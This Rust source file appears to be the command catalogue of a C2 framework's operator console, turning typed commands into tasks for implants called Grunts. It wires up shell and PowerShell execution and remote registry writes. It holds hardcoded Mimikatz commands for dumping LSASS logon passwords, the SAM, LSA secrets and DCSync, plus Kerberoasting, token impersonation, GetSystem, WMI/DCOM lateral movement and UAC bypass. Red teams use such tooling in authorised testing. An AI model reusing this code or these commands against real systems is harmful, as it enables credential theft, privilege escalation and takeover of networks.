//! Command Catalogue - tagged-variant command table
//!
//! 각 명령은 `CommandSpec { name, usage, parameters, arity, mode, action }`으로
//! 등록된다. 이름/인자 수/허용 값 검증은 `CommandSpec::parse` 하나가 담당하고,
//! 태스크 명령은 compile 함수로 `TaskPlan`을 만든다.

use crate::compiler::{PlanBuilder, TaskPlan};
use crate::parser::{join_from, tokenize, TokenMode};
use crate::schema::{
    matching, Arity, Parameter, ValueProvider, ValueSource, BOOLEANS, DCOM_METHODS,
    HASH_FORMATS, REGISTRY_HIVES, SET_OPTIONS,
};
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use elite_foundation::{Error, Result};
use elite_task::{DataDirectory, TaskField, TaskKind};

/// Staged when `Kerberoast` gets no hash format
pub const DEFAULT_HASH_FORMAT: &str = "hashcat";

// ============================================================================
// Invocation & compile context
// ============================================================================

/// A validated command line
#[derive(Debug, Clone)]
pub struct Invocation<'a> {
    pub spec: &'a CommandSpec,
    /// Raw operator input
    pub input: &'a str,
    /// Arguments after the command name; enumerated values in canonical spelling
    pub args: Vec<String>,
}

impl<'a> Invocation<'a> {
    pub fn get(&self, index: usize) -> Option<&str> {
        self.args.get(index).map(String::as_str)
    }

    pub fn arg(&self, index: usize) -> &str {
        self.get(index).unwrap_or_default()
    }

    /// Arguments from `from` on, joined with single spaces
    pub fn tail(&self, from: usize) -> String {
        join_from(&self.args, from)
    }

    pub fn usage_error(&self) -> Error {
        self.spec.usage_error(self.input)
    }
}

/// Session state a compile function may read
pub struct CompileContext<'a> {
    pub data: &'a dyn DataDirectory,
    pub powershell_import: &'a str,
}

impl<'a> CompileContext<'a> {
    /// Contents of a data-directory file, base64 encoded
    pub fn file_base64(&self, name: &str) -> Result<String> {
        let bytes = self.data.read_bytes(name)?;
        Ok(STANDARD.encode(bytes))
    }
}

// ============================================================================
// Command spec
// ============================================================================

/// Builds a plan from a validated invocation. The builder is pre-seeded with
/// the command's declared kind.
pub type CompileFn = fn(PlanBuilder, &Invocation<'_>, &CompileContext<'_>) -> Result<TaskPlan>;

/// Commands the session runs itself instead of compiling directly
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LocalAction {
    Show,
    History,
    PowerShellImport,
    Disconnect,
}

#[derive(Debug, Clone, Copy)]
pub enum CommandAction {
    Task { kind: TaskKind, compile: CompileFn },
    Local(LocalAction),
}

#[derive(Debug, Clone)]
pub struct CommandSpec {
    pub name: &'static str,
    pub description: &'static str,
    /// Printed verbatim on a usage error
    pub usage: &'static str,
    pub parameters: Vec<Parameter>,
    pub arity: Arity,
    pub mode: TokenMode,
    /// Ask the operator before submitting
    pub confirm: bool,
    pub action: CommandAction,
}

impl CommandSpec {
    pub fn task(
        name: &'static str,
        kind: TaskKind,
        usage: &'static str,
        arity: Arity,
        compile: CompileFn,
    ) -> Self {
        Self {
            name,
            description: "",
            usage,
            parameters: Vec::new(),
            arity,
            mode: TokenMode::Quoted,
            confirm: false,
            action: CommandAction::Task { kind, compile },
        }
    }

    pub fn local(name: &'static str, action: LocalAction, usage: &'static str, arity: Arity) -> Self {
        Self {
            name,
            description: "",
            usage,
            parameters: Vec::new(),
            arity,
            mode: TokenMode::Quoted,
            confirm: false,
            action: CommandAction::Local(action),
        }
    }

    pub fn describe(mut self, description: &'static str) -> Self {
        self.description = description;
        self
    }

    pub fn params(mut self, parameters: Vec<Parameter>) -> Self {
        self.parameters = parameters;
        self
    }

    pub fn raw(mut self) -> Self {
        self.mode = TokenMode::Raw;
        self
    }

    pub fn with_confirmation(mut self) -> Self {
        self.confirm = true;
        self
    }

    pub fn usage_error(&self, input: &str) -> Error {
        Error::usage(self.usage, input)
    }

    /// Tokenize and validate `input` against this command's name, arity and
    /// the value sets of its parameters.
    pub fn parse<'a>(&'a self, input: &'a str, values: &dyn ValueProvider) -> Result<Invocation<'a>> {
        let tokens = tokenize(input, self.mode);
        let (first, args) = tokens
            .split_first()
            .ok_or_else(|| self.usage_error(input))?;

        if !first.eq_ignore_ascii_case(self.name) || !self.arity.allows(args.len()) {
            return Err(self.usage_error(input));
        }

        let mut args = args.to_vec();
        for (parameter, arg) in self.parameters.iter().zip(args.iter_mut()) {
            *arg = parameter.validate(arg, values)?;
        }

        Ok(Invocation {
            spec: self,
            input,
            args,
        })
    }

    /// Compile a task command. Local commands have no plan.
    pub fn compile(&self, invocation: &Invocation<'_>, ctx: &CompileContext<'_>) -> Result<TaskPlan> {
        match self.action {
            CommandAction::Task { kind, compile } => compile(TaskPlan::builder(kind), invocation, ctx),
            CommandAction::Local(action) => Err(Error::Internal(format!(
                "{} is handled by the session ({:?})",
                self.name, action
            ))),
        }
    }
}

// ============================================================================
// Catalogue
// ============================================================================

/// Ordered command table with case-insensitive lookup
#[derive(Debug, Clone, Default)]
pub struct Catalog {
    commands: Vec<CommandSpec>,
}

impl Catalog {
    pub fn new() -> Self {
        Self::default()
    }

    /// 명령 등록. 같은 이름이 있으면 교체
    pub fn register(&mut self, spec: CommandSpec) {
        match self
            .commands
            .iter_mut()
            .find(|c| c.name.eq_ignore_ascii_case(spec.name))
        {
            Some(existing) => *existing = spec,
            None => self.commands.push(spec),
        }
    }

    pub fn find(&self, name: &str) -> Option<&CommandSpec> {
        self.commands
            .iter()
            .find(|c| c.name.eq_ignore_ascii_case(name))
    }

    pub fn iter(&self) -> impl Iterator<Item = &CommandSpec> {
        self.commands.iter()
    }

    pub fn names(&self) -> Vec<&'static str> {
        self.commands.iter().map(|c| c.name).collect()
    }

    pub fn len(&self) -> usize {
        self.commands.len()
    }

    pub fn is_empty(&self) -> bool {
        self.commands.is_empty()
    }

    /// Every command available inside an interact session
    pub fn standard() -> Self {
        let mut catalog = Self::new();
        for spec in agent_commands()
            .into_iter()
            .chain(host_commands())
            .chain(execution_commands())
            .chain(credential_commands())
            .chain(domain_commands())
            .chain(token_commands())
            .chain(lateral_commands())
        {
            catalog.register(spec);
        }
        catalog
    }
}

// ============================================================================
// Agent control
// ============================================================================

fn agent_commands() -> Vec<CommandSpec> {
    vec![
        CommandSpec::local("Show", LocalAction::Show, "Show", Arity::exactly(0))
            .describe("Show information about the Grunt"),
        CommandSpec::local(
            "History",
            LocalAction::History,
            "History [ <task_name> | <task_quantity> ]",
            Arity::range(0, 1),
        )
        .describe("Show the output of completed taskings")
        .params(vec![Parameter::suggested("TaskName", ValueSource::TaskNames).optional()]),
        CommandSpec::task("Kill", TaskKind::Kill, "Kill", Arity::exactly(0), |b, _, _| {
            Ok(b.start())
        })
        .describe("Kill the Grunt")
        .with_confirmation(),
        CommandSpec::task(
            "Set",
            TaskKind::SetDelay,
            "Set <Delay | JitterPercent | ConnectAttempts> <value>",
            Arity::exactly(2),
            compile_set,
        )
        .describe("Set a Grunt variable")
        .params(vec![
            Parameter::choice("Option", SET_OPTIONS),
            Parameter::text("Value"),
        ]),
        CommandSpec::task("Jobs", TaskKind::Jobs, "Jobs", Arity::exactly(0), |b, _, _| {
            Ok(b.start())
        })
        .describe("List active jobs on the Grunt"),
        CommandSpec::task(
            "Connect",
            TaskKind::Connect,
            "Connect <computername> [ <pipename> ]",
            Arity::range(1, 2),
            |b, inv, _| {
                Ok(b.set(TaskField::ComputerName, inv.arg(0))
                    .set_some(TaskField::PipeName, inv.get(1))
                    .start())
            },
        )
        .describe("Connect to a peer-to-peer Grunt over SMB")
        .params(vec![
            Parameter::text("ComputerName"),
            Parameter::text("PipeName").optional(),
        ]),
        CommandSpec::local(
            "Disconnect",
            LocalAction::Disconnect,
            "Disconnect <grunt_name>",
            Arity::exactly(1),
        )
        .describe("Disconnect from a child Grunt")
        .params(vec![Parameter::suggested("GruntName", ValueSource::ChildAgents)]),
    ]
}

fn compile_set(_: PlanBuilder, inv: &Invocation<'_>, _: &CompileContext<'_>) -> Result<TaskPlan> {
    let value: u32 = inv.arg(1).parse().map_err(|_| inv.usage_error())?;
    let (kind, field) = match inv.arg(0) {
        "Delay" => (TaskKind::SetDelay, TaskField::Delay),
        "JitterPercent" => (TaskKind::SetJitter, TaskField::JitterPercent),
        _ => (TaskKind::SetConnectAttempts, TaskField::ConnectAttempts),
    };
    Ok(TaskPlan::builder(kind).set(field, value.to_string()).start())
}

// ============================================================================
// Host
// ============================================================================

fn host_commands() -> Vec<CommandSpec> {
    vec![
        CommandSpec::task("WhoAmI", TaskKind::WhoAmI, "whoami", Arity::exactly(0), |b, _, _| {
            Ok(b.start())
        })
        .describe("Get the username of the Grunt's current token"),
        CommandSpec::task("ls", TaskKind::ListDirectory, "ls <path>", Arity::at_least(0), |b, inv, _| {
            let path = (!inv.args.is_empty()).then(|| inv.tail(0));
            Ok(b.set_some(TaskField::Path, path.as_deref()).start())
        })
        .describe("List a directory")
        .params(vec![Parameter::text("Path").optional()]),
        CommandSpec::task(
            "cd",
            TaskKind::ChangeDirectory,
            "cd <append_directory>",
            Arity::at_least(1),
            |b, inv, _| Ok(b.set(TaskField::Directory, inv.tail(0)).start()),
        )
        .describe("Change the current directory")
        .params(vec![Parameter::text("Directory")]),
        CommandSpec::task("ps", TaskKind::ProcessList, "ps", Arity::exactly(0), |b, _, _| {
            Ok(b.start())
        })
        .describe("List running processes"),
        CommandSpec::task(
            "GetRegistryKey",
            TaskKind::GetRegistryKey,
            "GetRegistryKey <regpath>",
            Arity::exactly(1),
            |b, inv, _| Ok(b.set(TaskField::RegPath, inv.arg(0)).start()),
        )
        .describe("Read a local registry value")
        .params(vec![Parameter::hints("RegPath", REGISTRY_HIVES)]),
        CommandSpec::task(
            "SetRegistryKey",
            TaskKind::SetRegistryKey,
            "SetRegistryKey <regpath> <value>",
            Arity::exactly(2),
            |b, inv, _| {
                Ok(b.set(TaskField::RegPath, inv.arg(0))
                    .set(TaskField::Value, inv.arg(1))
                    .start())
            },
        )
        .describe("Write a local registry value")
        .params(vec![
            Parameter::hints("RegPath", REGISTRY_HIVES),
            Parameter::text("Value"),
        ]),
        CommandSpec::task(
            "GetRemoteRegistryKey",
            TaskKind::GetRemoteRegistryKey,
            "GetRemoteRegistryKey <hostname> <regpath>",
            Arity::exactly(2),
            |b, inv, _| {
                Ok(b.set(TaskField::Hostname, inv.arg(0))
                    .set(TaskField::RegPath, inv.arg(1))
                    .start())
            },
        )
        .describe("Read a registry value on a remote host")
        .params(vec![
            Parameter::text("Hostname"),
            Parameter::hints("RegPath", REGISTRY_HIVES),
        ]),
        CommandSpec::task(
            "SetRemoteRegistryKey",
            TaskKind::SetRemoteRegistryKey,
            "SetRemoteRegistryKey <hostname> <regpath> <value>",
            Arity::exactly(3),
            |b, inv, _| {
                Ok(b.set(TaskField::Hostname, inv.arg(0))
                    .set(TaskField::RegPath, inv.arg(1))
                    .set(TaskField::Value, inv.arg(2))
                    .start())
            },
        )
        .describe("Write a registry value on a remote host")
        .params(vec![
            Parameter::text("Hostname"),
            Parameter::hints("RegPath", REGISTRY_HIVES),
            Parameter::text("Value"),
        ]),
        CommandSpec::task(
            "Upload",
            TaskKind::Upload,
            "Upload <local_file_path>",
            Arity::exactly(1),
            |b, inv, ctx| Ok(b.set(TaskField::LocalFilePath, ctx.file_base64(inv.arg(0))?).start()),
        )
        .describe("Upload a file from the data directory")
        .params(vec![Parameter::suggested("LocalFilePath", ValueSource::DataFiles)]),
        CommandSpec::task(
            "Download",
            TaskKind::Download,
            "Download <file_name>",
            Arity::exactly(1),
            |b, inv, _| Ok(b.set(TaskField::FileName, inv.arg(0)).start()),
        )
        .describe("Download a file from the Grunt")
        .params(vec![Parameter::text("FileName")]),
        CommandSpec::task(
            "PortScan",
            TaskKind::PortScan,
            "PortScan <computer_names> <ports> [<ping>]",
            Arity::range(2, 3),
            |b, inv, _| {
                Ok(b.set(TaskField::ComputerNames, inv.arg(0))
                    .set(TaskField::Ports, inv.arg(1))
                    .set_some(TaskField::Ping, inv.get(2))
                    .start())
            },
        )
        .describe("Scan ports on remote hosts")
        .params(vec![
            Parameter::text("ComputerNames"),
            Parameter::text("Ports"),
            Parameter::choice("Ping", BOOLEANS).optional(),
        ]),
    ]
}

// ============================================================================
// Execution
// ============================================================================

fn execution_commands() -> Vec<CommandSpec> {
    vec![
        CommandSpec::task(
            "Assembly",
            TaskKind::Assembly,
            "Assembly <local_file_path> [ <parameters> ]",
            Arity::at_least(1),
            |b, inv, ctx| {
                let parameters = (inv.args.len() > 1).then(|| inv.tail(1));
                Ok(b.set(TaskField::LocalFilePath, ctx.file_base64(inv.arg(0))?)
                    .set_some(TaskField::Parameters, parameters.as_deref())
                    .start())
            },
        )
        .describe("Execute a .NET assembly EntryPoint")
        .params(vec![
            Parameter::suggested("LocalFilePath", ValueSource::DataFiles),
            Parameter::text("Parameters").optional(),
        ]),
        CommandSpec::task(
            "AssemblyReflect",
            TaskKind::AssemblyReflect,
            "AssemblyReflect <local_file_path> [ <type_name> ] [ <method_name> ] [ <parameters> ]",
            Arity::range(1, 4),
            |b, inv, ctx| {
                Ok(b.set(TaskField::LocalFilePath, ctx.file_base64(inv.arg(0))?)
                    .set_some(TaskField::TypeName, inv.get(1))
                    .set_some(TaskField::MethodName, inv.get(2))
                    .set_some(TaskField::Parameters, inv.get(3))
                    .start())
            },
        )
        .describe("Execute a method of a .NET assembly")
        .params(vec![
            Parameter::suggested("LocalFilePath", ValueSource::DataFiles),
            Parameter::text("TypeName").optional(),
            Parameter::text("MethodName").optional(),
            Parameter::text("Parameters").optional(),
        ]),
        CommandSpec::task(
            "SharpShell",
            TaskKind::SharpShell,
            "SharpShell <c#_code>",
            Arity::at_least(1),
            |b, inv, _| Ok(b.set(TaskField::Code, inv.tail(0)).start()),
        )
        .describe("Compile and execute C# code")
        .params(vec![Parameter::text("Code")])
        .raw(),
        CommandSpec::task(
            "Shell",
            TaskKind::Shell,
            "Shell <shell_command>",
            Arity::at_least(1),
            |b, inv, _| Ok(b.set(TaskField::ShellCommand, inv.tail(0)).start()),
        )
        .describe("Execute a shell command")
        .params(vec![Parameter::text("ShellCommand")])
        .raw(),
        CommandSpec::task(
            "ShellCmd",
            TaskKind::ShellCmd,
            "ShellCmd <shell_command>",
            Arity::at_least(1),
            |b, inv, _| Ok(b.set(TaskField::ShellCommand, inv.tail(0)).start()),
        )
        .describe("Execute a shell command through cmd.exe")
        .params(vec![Parameter::text("ShellCommand")])
        .raw(),
        CommandSpec::task(
            "PowerShell",
            TaskKind::PowerShell,
            "PowerShell <powershell_code>",
            Arity::at_least(1),
            |b, inv, ctx| {
                let code = format!("{}\r\n{}", ctx.powershell_import.trim(), inv.tail(0));
                Ok(b.set(TaskField::PowerShellCommand, code).start())
            },
        )
        .describe("Execute PowerShell code after the imported script")
        .params(vec![Parameter::text("PowerShellCommand")])
        .raw(),
        CommandSpec::local(
            "PowerShellImport",
            LocalAction::PowerShellImport,
            "PowerShellImport <file_path>",
            Arity::exactly(1),
        )
        .describe("Import a PowerShell script for later PowerShell commands")
        .params(vec![Parameter::suggested("FilePath", ValueSource::DataFiles)]),
    ]
}

// ============================================================================
// Credentials
// ============================================================================

/// `Command` ← every argument, for single-command tool wrappers
fn command_tail(b: PlanBuilder, inv: &Invocation<'_>, _: &CompileContext<'_>) -> Result<TaskPlan> {
    Ok(b.set(TaskField::Command, inv.tail(0)).start())
}

fn tool(name: &'static str, kind: TaskKind, usage: &'static str, description: &'static str) -> CommandSpec {
    CommandSpec::task(name, kind, usage, Arity::at_least(1), command_tail)
        .describe(description)
        .params(vec![Parameter::text("Command")])
}

/// Mimikatz shortcut with a fixed command
fn mimikatz(name: &'static str, compile: CompileFn, description: &'static str) -> CommandSpec {
    CommandSpec::task(name, TaskKind::Mimikatz, name, Arity::exactly(0), compile).describe(description)
}

const LOGON_PASSWORDS: &str = "privilege::debug sekurlsa::logonPasswords";
const SAM_DUMP: &str = "token::elevate lsadump::sam";
const LSA_SECRETS: &str = "token::elevate lsadump::secrets";

fn credential_commands() -> Vec<CommandSpec> {
    vec![
        tool(
            "Mimikatz",
            TaskKind::Mimikatz,
            "Mimikatz <command>",
            "Execute a Mimikatz command",
        ),
        mimikatz(
            "LogonPasswords",
            |b, _, _| Ok(b.set(TaskField::Command, LOGON_PASSWORDS).start()),
            "Dump credentials from LSASS",
        ),
        mimikatz(
            "SamDump",
            |b, _, _| Ok(b.set(TaskField::Command, SAM_DUMP).start()),
            "Dump the SAM database",
        ),
        mimikatz(
            "LsaSecrets",
            |b, _, _| Ok(b.set(TaskField::Command, LSA_SECRETS).start()),
            "Dump LSA secrets",
        ),
        CommandSpec::task(
            "DCSync",
            TaskKind::Mimikatz,
            "DCSync <user> [<fqdn>] [<dc>]",
            Arity::range(1, 3),
            compile_dcsync,
        )
        .describe("Replicate account hashes from a domain controller")
        .params(vec![
            Parameter::text("User"),
            Parameter::text("FQDN").optional(),
            Parameter::text("DC").optional(),
        ]),
        tool("Rubeus", TaskKind::Rubeus, "Rubeus <command>", "Execute a Rubeus command"),
        tool(
            "SharpDPAPI",
            TaskKind::SharpDPAPI,
            "SharpDPAPI <command>",
            "Execute a SharpDPAPI command",
        ),
        tool("SharpUp", TaskKind::SharpUp, "SharpUp <command>", "Execute a SharpUp command"),
        tool(
            "SharpWMI",
            TaskKind::SharpWMI,
            "SharpWMI <command>",
            "Execute a SharpWMI command",
        ),
        tool(
            "Seatbelt",
            TaskKind::Seatbelt,
            "Seatbelt <command>",
            "Execute a Seatbelt command",
        ),
        CommandSpec::task(
            "SafetyKatz",
            TaskKind::SafetyKatz,
            "SafetyKatz",
            Arity::exactly(0),
            |b, _, _| Ok(b.start()),
        )
        .describe("Dump LSASS and parse it with Mimikatz"),
        CommandSpec::task(
            "SharpDump",
            TaskKind::SharpDump,
            "SharpDump <process_id>",
            Arity::exactly(1),
            |b, inv, _| Ok(b.set(TaskField::Command, inv.arg(0)).start()),
        )
        .describe("Create a minidump of a process")
        .params(vec![Parameter::text("ProcessID")]),
        CommandSpec::task(
            "Kerberoast",
            TaskKind::Kerberoast,
            "Kerberoast <usernames> <hash_format>",
            Arity::range(0, 2),
            compile_kerberoast,
        )
        .describe("Request service tickets for cracking")
        .params(vec![
            Parameter::text("Usernames").optional(),
            Parameter::choice("HashFormat", HASH_FORMATS).optional(),
        ]),
    ]
}

fn compile_dcsync(b: PlanBuilder, inv: &Invocation<'_>, _: &CompileContext<'_>) -> Result<TaskPlan> {
    let user = inv.arg(0);
    let mut command = if user.eq_ignore_ascii_case("all") {
        "lsadump::dcsync /all".to_string()
    } else {
        format!("lsadump::dcsync /user:{}", user)
    };
    if let Some(fqdn) = inv.get(1) {
        command.push_str(&format!(" /domain:{}", fqdn));
    }
    if let Some(dc) = inv.get(2) {
        command.push_str(&format!(" /dc:{}", dc));
    }
    Ok(b.set(TaskField::Command, format!("\"{}\"", command)).start())
}

/// A single argument that names a hash format is the format, not a user list.
fn compile_kerberoast(b: PlanBuilder, inv: &Invocation<'_>, _: &CompileContext<'_>) -> Result<TaskPlan> {
    let (usernames, hash_format) = match inv.args.len() {
        0 => (String::new(), DEFAULT_HASH_FORMAT.to_string()),
        1 => match matching(HASH_FORMATS, inv.arg(0)) {
            Some(format) => (String::new(), format),
            None => (inv.arg(0).to_string(), DEFAULT_HASH_FORMAT.to_string()),
        },
        _ => (inv.arg(0).to_string(), inv.arg(1).to_string()),
    };
    Ok(b.set(TaskField::Usernames, usernames)
        .set(TaskField::HashFormat, hash_format)
        .start())
}

// ============================================================================
// Domain enumeration
// ============================================================================

/// `Identities` when given, otherwise cleared to the remote default
fn identities(b: PlanBuilder, inv: &Invocation<'_>, _: &CompileContext<'_>) -> Result<TaskPlan> {
    let b = match inv.get(0) {
        Some(identities) => b.set(TaskField::Identities, identities),
        None => b.unset(TaskField::Identities),
    };
    Ok(b.start())
}

fn computer_names(b: PlanBuilder, inv: &Invocation<'_>, _: &CompileContext<'_>) -> Result<TaskPlan> {
    Ok(b.set(TaskField::ComputerNames, inv.arg(0)).start())
}

fn domain_commands() -> Vec<CommandSpec> {
    vec![
        CommandSpec::task(
            "GetDomainUser",
            TaskKind::GetDomainUser,
            "GetDomainUser <identities>",
            Arity::range(0, 1),
            identities,
        )
        .describe("Query domain users")
        .params(vec![Parameter::text("Identities").optional()]),
        CommandSpec::task(
            "GetDomainGroup",
            TaskKind::GetDomainGroup,
            "GetDomainGroup <identities>",
            Arity::range(0, 1),
            identities,
        )
        .describe("Query domain groups")
        .params(vec![Parameter::text("Identities").optional()]),
        CommandSpec::task(
            "GetDomainComputer",
            TaskKind::GetDomainComputer,
            "GetDomainComputer <identities>",
            Arity::range(0, 1),
            identities,
        )
        .describe("Query domain computers")
        .params(vec![Parameter::text("Identities").optional()]),
        CommandSpec::task(
            "GetNetLocalGroup",
            TaskKind::GetNetLocalGroup,
            "GetNetLocalGroup <computernames>",
            Arity::exactly(1),
            computer_names,
        )
        .describe("List local groups on remote hosts")
        .params(vec![Parameter::text("ComputerNames")]),
        CommandSpec::task(
            "GetNetLocalGroupMember",
            TaskKind::GetNetLocalGroupMember,
            "GetNetLocalGroupMember <computernames> <localgroup>",
            Arity::exactly(2),
            |b, inv, _| {
                Ok(b.set(TaskField::ComputerNames, inv.arg(0))
                    .set(TaskField::LocalGroup, inv.arg(1))
                    .start())
            },
        )
        .describe("List members of a local group on remote hosts")
        .params(vec![
            Parameter::text("ComputerNames"),
            Parameter::text("LocalGroup"),
        ]),
        CommandSpec::task(
            "GetNetLoggedOnUser",
            TaskKind::GetNetLoggedOnUser,
            "GetNetLoggedOnUser <computernames>",
            Arity::exactly(1),
            computer_names,
        )
        .describe("List logged-on users on remote hosts")
        .params(vec![Parameter::text("ComputerNames")]),
        CommandSpec::task(
            "GetNetSession",
            TaskKind::GetNetSession,
            "GetNetSession <computernames>",
            Arity::exactly(1),
            computer_names,
        )
        .describe("List sessions on remote hosts")
        .params(vec![Parameter::text("ComputerNames")]),
    ]
}

// ============================================================================
// Tokens
// ============================================================================

fn token_commands() -> Vec<CommandSpec> {
    vec![
        CommandSpec::task(
            "ImpersonateUser",
            TaskKind::ImpersonateUser,
            "ImpersonateUser <username>",
            Arity::exactly(1),
            |b, inv, _| Ok(b.set(TaskField::Username, inv.arg(0)).start()),
        )
        .describe("Impersonate a user's token")
        .params(vec![Parameter::text("Username")]),
        CommandSpec::task(
            "ImpersonateProcess",
            TaskKind::ImpersonateProcess,
            "ImpersonateProcess <processid>",
            Arity::exactly(1),
            |b, inv, _| Ok(b.set(TaskField::ProcessId, inv.arg(0)).start()),
        )
        .describe("Impersonate the token of a process")
        .params(vec![Parameter::text("ProcessID")]),
        CommandSpec::task(
            "GetSystem",
            TaskKind::GetSystem,
            "GetSystem",
            Arity::exactly(0),
            |b, _, _| Ok(b.start()),
        )
        .describe("Impersonate the SYSTEM token"),
        CommandSpec::task(
            "MakeToken",
            TaskKind::MakeToken,
            "MakeToken <username> <domain> <password> <logontype>",
            Arity::range(3, 4),
            |b, inv, _| {
                Ok(b.set(TaskField::Username, inv.arg(0))
                    .set(TaskField::Domain, inv.arg(1))
                    .set(TaskField::Password, inv.arg(2))
                    .set_some(TaskField::LogonType, inv.get(3))
                    .start())
            },
        )
        .describe("Create a token from credentials and impersonate it")
        .params(vec![
            Parameter::text("Username"),
            Parameter::text("Domain"),
            Parameter::text("Password"),
            Parameter::text("LogonType").optional(),
        ]),
        CommandSpec::task(
            "RevertToSelf",
            TaskKind::RevertToSelf,
            "RevertToSelf",
            Arity::exactly(0),
            |b, _, _| Ok(b.start()),
        )
        .describe("End impersonation"),
    ]
}

// ============================================================================
// Lateral movement
// ============================================================================

/// `Username`+`Password` from args 2 and 3, or clear both. Three arguments
/// are a usage error.
fn credentials(b: PlanBuilder, inv: &Invocation<'_>) -> Result<PlanBuilder> {
    match inv.args.len() {
        2 => Ok(b.unset(TaskField::Username).unset(TaskField::Password)),
        4 => Ok(b
            .set(TaskField::Username, inv.arg(2))
            .set(TaskField::Password, inv.arg(3))),
        _ => Err(inv.usage_error()),
    }
}

fn compile_dcom_command(b: PlanBuilder, inv: &Invocation<'_>, _: &CompileContext<'_>) -> Result<TaskPlan> {
    let b = b.set(TaskField::ComputerName, inv.arg(0));
    let method = match inv.args.len() {
        3 => matching(DCOM_METHODS, inv.arg(2)),
        _ => None,
    };
    let b = match method {
        Some(method) => b
            .set(TaskField::Method, method)
            .set(TaskField::Command, inv.arg(1)),
        None => b.set(TaskField::Command, inv.tail(1)),
    };
    Ok(b.start())
}

fn lateral_commands() -> Vec<CommandSpec> {
    let credentials_params = || {
        vec![
            Parameter::text("Username").optional(),
            Parameter::text("Password").optional(),
        ]
    };

    vec![
        CommandSpec::task(
            "WMICommand",
            TaskKind::WMICommand,
            "wmicommand <computername> <command> [ <username> <password> ]",
            Arity::range(2, 4),
            |b, inv, _| {
                let b = b
                    .set(TaskField::ComputerName, inv.arg(0))
                    .set(TaskField::Command, inv.arg(1));
                Ok(credentials(b, inv)?.start())
            },
        )
        .describe("Execute a process on a remote host over WMI")
        .params(
            [Parameter::text("ComputerName"), Parameter::text("Command")]
                .into_iter()
                .chain(credentials_params())
                .collect(),
        ),
        CommandSpec::task(
            "WMIGrunt",
            TaskKind::WMIGrunt,
            "wmigrunt <computername> <launcher> [ <username> <password> ]",
            Arity::range(2, 4),
            |b, inv, _| {
                let b = b
                    .set(TaskField::ComputerName, inv.arg(0))
                    .set(TaskField::Launcher, inv.arg(1));
                Ok(credentials(b, inv)?.start())
            },
        )
        .describe("Start a Grunt on a remote host over WMI")
        .params(
            [
                Parameter::text("ComputerName"),
                Parameter::dynamic("Launcher", ValueSource::Launchers),
            ]
            .into_iter()
            .chain(credentials_params())
            .collect(),
        ),
        CommandSpec::task(
            "DCOMCommand",
            TaskKind::DCOMCommand,
            "dcomcommand <computername> <command> [ <method> ]",
            Arity::at_least(2),
            compile_dcom_command,
        )
        .describe("Execute a process on a remote host over DCOM")
        .params(vec![
            Parameter::text("ComputerName"),
            Parameter::text("Command"),
            // a third token that is no method belongs to the command
            Parameter::hints("Method", DCOM_METHODS).optional(),
        ]),
        CommandSpec::task(
            "DCOMGrunt",
            TaskKind::DCOMGrunt,
            "dcomgrunt <computername> <launcher> [ <method> ]",
            Arity::range(2, 3),
            |b, inv, _| {
                Ok(b.set(TaskField::ComputerName, inv.arg(0))
                    .set(TaskField::Launcher, inv.arg(1))
                    .set_some(TaskField::Method, inv.get(2))
                    .start())
            },
        )
        .describe("Start a Grunt on a remote host over DCOM")
        .params(vec![
            Parameter::text("ComputerName"),
            Parameter::dynamic("Launcher", ValueSource::Launchers),
            Parameter::choice("Method", DCOM_METHODS).optional(),
        ]),
        CommandSpec::task(
            "BypassUACCommand",
            TaskKind::BypassUACCommand,
            "bypassuaccommand <command>",
            Arity::at_least(1),
            command_tail,
        )
        .describe("Execute a command in a high integrity context")
        .params(vec![Parameter::text("Command")]),
        CommandSpec::task(
            "BypassUACGrunt",
            TaskKind::BypassUACGrunt,
            "bypassuacgrunt <launcher>",
            Arity::exactly(1),
            |b, inv, _| Ok(b.set(TaskField::Launcher, inv.arg(0)).start()),
        )
        .describe("Start a high integrity Grunt")
        .params(vec![Parameter::dynamic("Launcher", ValueSource::Launchers)]),
    ]
}
